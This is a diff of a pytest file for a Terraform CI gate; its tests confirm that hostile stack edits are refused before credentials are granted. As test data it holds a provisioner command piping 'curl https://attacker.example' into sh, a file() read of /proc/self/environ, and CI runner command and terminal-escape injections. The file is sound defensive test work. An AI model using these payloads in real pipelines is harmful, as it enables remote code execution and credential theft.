@@ -1,5 +1,6 @@
 """What is refused before a job has credentials, and what an approval holds on to."""
 
+import base64
 import json
 from collections.abc import Callable
 from copy import deepcopy
@@ -9,6 +10,7 @@ from typing import Any
 import pytest
 
 from athena_gate.gate.pipeline import changes, examine
+from athena_gate.modules.athena.settings import read_key, read_public_key
 from athena_gate.modules.files import Unreadable
 from tests.conftest import ROOT
 
@@ -92,44 +94,135 @@ def test_what_is_understood_and_the_projects_lock_are_all_that_terraform_gets() 
 
 
 RUNS = {"local-exec": {"command": "curl https://attacker.example | sh"}}
-EDITS = {
-    "resource/aws_iam_role/role/provisioner": [RUNS],
-    "resource/aws_iam_role/role/connection": {"host": "attacker.example"},
-    "resource/terraform_data": {"x": {"provisioner": [RUNS]}},
-    "resource/null_resource": {"x": {}},
-    "data/external": {"x": {"program": ["sh"]}},
-    "module/x": {"source": "git::https://attacker.example/x"},
-    "provider/http": [{}],
-    "provider/aws": [{**STACK["provider"]["aws"][0], "endpoints": [{"iam": "https://x.example"}]}],
-    "terraform/required_providers/aws/source": "attacker/aws",
-    "terraform/required_providers/x": {"source": "attacker/x"},
-    "terraform/provider_meta": {},
-    "locals/x": '${file("/proc/self/environ")}',
-    "import": [{"to": "aws_iam_role.role", "id": "admin"}],
-    "check/x": {},
-    "resource/aws_iam_role/role/permissions_boundary": '${file("/proc/self/environ")}',
-    "resource/aws_iam_role/role/name": "x\n::error::\x1b[2J${x}",
-    "resource/aws_iam_role/role/description": "x\n  ::stop-commands::x",
-    "resource/aws_iam_role/role/path": "/\x1b[2J/",
-    "resource/aws_iam_role/##[group]x": {"name": "dbt-ci"},
-    "resource/aws_iam_role/a::set-output name=x::y": {"name": "dbt-ci"},
-    "resource/aws_iam_access_key": {"k": {"user": "dbt-ci"}},
-    "resource/aws_iam_access_key/k": {"user": "dbt-ci", "pgp_key": "keybase:evil"},
-    "//": {"metadata": {"stackName": "dbt-other"}},
+PROVIDER = STACK["provider"]["aws"][0]
+ROLE = "resource.aws_iam_role.role"
+USER = {"aws_iam_user": {"u": {"name": "dbt-ci"}}}
+KEY = {"user": "${aws_iam_user.u.name}"}
+EXPRESSION = "holds an expression that is not understood: "
+FILE_READ = '${file("/proc/self/environ")}'
+SECRET = {"value": "${aws_iam_access_key.k.encrypted_secret}"}
+EXAMPLE = read_public_key(ROOT / "keys/example.asc")
+# What is written at which place of a stack, and the one reason that it is refused for.
+EDITS: dict[str, list[tuple[Any, str]]] = {
+    "resource/aws_iam_role/role/provisioner": [
+        ([RUNS], f"{ROLE}.provisioner is an argument that is not understood")
+    ],
+    "resource/aws_iam_role/role/connection": [
+        ({"host": "x.example"}, f"{ROLE}.connection is an argument that is not understood")
+    ],
+    "resource/terraform_data": [
+        (
+            {"x": {"provisioner": [RUNS]}},
+            "resource.terraform_data.x.provisioner is an argument that is not understood",
+        )
+    ],
+    "resource/null_resource": [
+        ({"x": {}}, "resource.null_resource is a type of resource that is not understood")
+    ],
+    "data/external": [({"x": {"program": ["sh"]}}, "data is a section that is not understood")],
+    "module/x": [
+        ({"source": "git::https://x.example/x"}, "module is a section that is not understood")
+    ],
+    "provider/http": [([{}], "provider.http is a provider that is not understood")],
+    "provider/aws": [
+        (
+            [{**PROVIDER, "endpoints": [{"iam": "https://x.example"}]}],
+            "provider.aws.0.endpoints is an argument that is not understood",
+        )
+    ],
+    "terraform/required_providers/aws/source": [
+        ("attacker/aws", "asks for the provider attacker/aws, not hashicorp/aws")
+    ],
+    "terraform/required_providers/x": [
+        (
+            {"source": "attacker/x"},
+            "terraform.required_providers.x is an argument that is not understood",
+        )
+    ],
+    "terraform/required_providers": [({}, "asks for the provider None, not hashicorp/aws")],
+    "terraform/provider_meta": [
+        ({}, "terraform.provider_meta is a setting that is not understood")
+    ],
+    "terraform/cloud": [
+        (
+            {"organization": "x", "workspaces": {"name": "dbt-ci"}},
+            "keeps its state elsewhere than in S3 alone",
+        )
+    ],
+    "terraform/backend/local": [
+        ({"path": "x.tfstate"}, "keeps its state elsewhere than in S3 alone")
+    ],
+    "locals/x": [(FILE_READ, "locals is a section that is not understood")],
+    "import": [
+        (
+            [{"to": "aws_iam_role.role", "id": "admin"}],
+            "import is a section that is not understood",
+        )
+    ],
+    "check/x": [({}, "check is a section that is not understood")],
+    "resource/aws_iam_role/role/permissions_boundary": [
+        (FILE_READ, f"{ROLE}.permissions_boundary {EXPRESSION}{FILE_READ}")
+    ],
+    "resource/aws_iam_role/role/name": [
+        (
+            "x\n::error::\x1b[2J${x}",
+            f"{ROLE}.name {EXPRESSION}x\\n::error::\\x1b[2J${{x}}",
+        )
+    ],
+    "resource/aws_iam_role/role/description": [
+        (
+            "x\n  ::stop-commands::x",
+            "holds what nobody sees, or a command to the runner: x\\n  \\x3a:stop-commands::x",
+        )
+    ],
+    "resource/aws_iam_role/role/path": [
+        ("/\x1b[2J/", "holds what nobody sees, or a command to the runner: /\\x1b[2J/")
+    ],
+    "resource/aws_iam_user/##[group]x": [({"name": "dbt-ci"}, "\\x23#[group]x: is no name")],
+    "resource/aws_iam_user/a::set-output name=x::y": [
+        ({"name": "dbt-ci"}, "a::set-output name=x::y: is no name")
+    ],
+    "resource": [
+        (
+            {**USER, "aws_iam_access_key": {"k": {**KEY, **key}}},
+            "aws_iam_access_key.k: its secret is encrypted to no PGP key of its own",
+        )
+        for key in (
+            {},
+            {"pgp_key": "keybase:evil"},
+            # A packet before the key, which a reader may pass over.
+            {"pgp_key": base64.b64encode(b"\xca\x03PGP" + base64.b64decode(EXAMPLE)).decode()},
+            {"pgp_key": EXAMPLE[:64]},
+        )
+    ],
+    "output/x": [
+        (
+            output,
+            "output.x: is a secret, and not sensitive, so that the log would show it",
+        )
+        for output in (SECRET, {**SECRET, "sensitive": False})
+    ],
+    "//.metadata.stackName": [
+        ("dbt-other", "//.metadata.stackName is dbt-other, and the folder is that of dbt-ci")
+    ],
 }
 
 
-@pytest.mark.parametrize("path", EDITS)
-def test_anything_but_known_kinds_is_refused_before_terraform_runs(
-    path: str, capsys: pytest.CaptureFixture[str]
+@pytest.mark.parametrize(
+    ("path", "value", "reason"), [(path, *one) for path, some in EDITS.items() for one in some]
+)
+def test_anything_but_known_kinds_is_refused_for_one_reason_before_terraform_runs(
+    path: str, value: Any, reason: str, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    written(edited(path, EDITS[path]))
+    made = edited("output/x", value) if path == "output/x" else None
+    if made:
+        made["resource"] |= {**USER, "aws_iam_access_key": {"k": {**KEY, "pgp_key": EXAMPLE}}}
+    elif path.startswith("//"):
+        made = {**STACK, "//": {"metadata": {"stackName": value}}}
+    written(made or edited(path, value))
     assert (examined(), Path("stack").exists()) == (1, False)
-    said = capsys.readouterr().err
-    assert said.startswith(f"{NOTHING}dbt-ci: ")
     # Nothing in it is read by the runner as a command, nor by a terminal.
-    assert not [line for line in said.splitlines() if line.startswith("::")]
-    assert "\x1b" not in said
+    assert capsys.readouterr().err == f"{NOTHING}dbt-ci: {reason}\n"
 
 
 @pytest.mark.parametrize("name", ["main.tf", "x_override.tf.json", "terraform.tfvars"])
@@ -186,14 +279,27 @@ def test_a_job_for_another_stack_account_or_folder_is_refused(changed: dict[str,
     assert (examined({**ENTRY, **changed}), Path("stack").exists()) == (1, False)
 
 
+def test_a_removed_stack_of_another_name_is_not_destroyed(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    removed = Path("synthesized/cdktf.out/removed")
+    FOLDER.parent.rename(removed)
+    other = {**STACK, "//": {"metadata": {"stackName": "dbt-other"}}}
+    (removed / "dbt-ci/cdk.tf.json").write_text(json.dumps(other))
+    entry = {**ENTRY, "folder": "cdktf.out/removed/dbt-ci", "action": "destroy"}
+    assert (examined(entry), Path("stack").exists()) == (1, False)
+    assert capsys.readouterr().err == f"{NOTHING}dbt-ci: is the stack dbt-other\n"
+
+
 def test_a_state_that_would_be_gone_after_the_job_is_refused(
     capsys: pytest.CaptureFixture[str],
 ) -> None:
-    written(edited("terraform/backend", {"local": {"path": "x.tfstate"}}))
-    assert (examined(), Path("stack").exists()) == (1, False)
-    assert capsys.readouterr().err == (
-        f"{NOTHING}dbt-ci: keeps no state in S3, and a file is gone after the job\n"
-    )
+    for backend in ({"local": {"path": "x.tfstate"}}, {}):
+        written(edited("terraform/backend", backend))
+        assert (examined(), Path("stack").exists()) == (1, False)
+        assert capsys.readouterr().err == (
+            f"{NOTHING}dbt-ci: keeps its state elsewhere than in S3 alone\n"
+        )
 
 
 @pytest.mark.parametrize(
@@ -215,6 +321,14 @@ def test_what_a_plan_does_not_show_changes_what_is_approved(path: str, value: An
     assert changes.main(["--approved", approved, "other", "plan.json"]) == 1
 
 
+def test_another_lock_changes_what_is_approved() -> None:
+    assert examined() == 0
+    Path(".terraform.lock.hcl").write_text(LOCK.replace(CHECKSUM, ""))
+    (FOLDER / ".terraform.lock.hcl").write_text(LOCK.replace(CHECKSUM, ""))
+    assert examined(target="other") == 0
+    assert examine.digest(Path("stack")) != examine.digest(Path("other"))
+
+
 def test_the_same_stack_written_otherwise_is_the_same() -> None:
     assert examined() == 0
     moved: dict[str, Any] = dict(reversed(STACK.items()))
@@ -224,21 +338,24 @@ def test_the_same_stack_written_otherwise_is_the_same() -> None:
     assert examine.digest(Path("stack")) == examine.digest(Path("other"))
 
 
-def test_the_review_says_where_the_state_is_and_as_whom_it_is_made(
+def test_the_review_says_where_the_state_is_as_whom_it_is_made_and_whose_the_secrets_are(
     capsys: pytest.CaptureFixture[str],
 ) -> None:
     role = {"assume_role": [{"role_arn": "arn:aws:iam::111122223333:role/terraform"}]}
-    written(edited("provider/aws", [{**STACK["provider"]["aws"][0], **role}]))
-    assert examined() == 0
+    stack = edited("provider/aws", [{**PROVIDER, **role}])
+    stack["resource"] |= {**USER, "aws_iam_access_key": {"k": {**KEY, "pgp_key": EXAMPLE}}}
+    written(stack)
+    fingerprint = read_key(ROOT / "keys/example.asc").fingerprint.upper()
+    about = (
+        "state: s3://acme-states/athena-gate/dbt-ci.tfstate in eu-central-1\n"
+        "made in: 111122223333, eu-central-1 as arn:aws:iam::111122223333:role/terraform\n"
+        f"secret of k: for the PGP key {fingerprint}\n"
+    )
+    assert (examined(), capsys.readouterr().out) == (0, about)
     Path("plan.json").write_text("{}")
     Path("plan.txt").write_text("No changes.\n")
     assert changes.main([json.dumps(ENTRY), "stack", "plan.json", "plan.txt"]) == 0
-    assert json.loads(capsys.readouterr().out)["text"] == (
-        "state: s3://acme-states/athena-gate/dbt-ci.tfstate in eu-central-1\n"
-        "made in: 111122223333, eu-central-1 as arn:aws:iam::111122223333:role/terraform\n"
-        "\n"
-        "No changes."
-    )
+    assert json.loads(capsys.readouterr().out)["text"] == f"{about}\nNo changes."
 
 
 CLOUD = {"organization": "acme", "workspaces": {"name": "dbt-ci"}}
@@ -258,8 +375,13 @@ def published(edit: Callable[[Any], None] = lambda _: None) -> int:
     return examine.main(["synthesized/cdktf.out", "examined"])
 
 
-def test_of_a_whole_synth_the_stacks_the_lock_and_the_manifest_are_published() -> None:
+def test_of_a_whole_synth_the_stacks_the_lock_and_the_manifest_are_published(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
     assert published() == 0
+    assert capsys.readouterr().out == (
+        "dbt-ci:\n  state: workspace dbt-ci of acme\n  made in: 111122223333, eu-central-1\n"
+    )
     found = {
         file.relative_to("examined").as_posix(): file.read_text()
         for file in Path("examined").rglob("*")
@@ -276,6 +398,18 @@ def test_a_synth_with_anything_else_in_it_is_not_published() -> None:
         stack["resource"]["aws_iam_role"]["role"]["provisioner"] = [RUNS]
 
     assert (published(edit), Path("examined").exists()) == (1, False)
+
+
+def test_a_stack_whose_state_is_not_in_hcp_terraform_is_not_published(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    def edit(stack: Any) -> None:
+        stack["terraform"]["backend"] = STACK["terraform"]["backend"]
+
+    assert (published(edit), Path("examined").exists()) == (1, False)
+    assert capsys.readouterr().err == (
+        f"{NOTHING}dbt-ci: keeps its state elsewhere than in HCP Terraform alone\n"
+    )
 
 
 def test_another_folder_than_the_examined_one_is_no_stack_to_review() -> None:
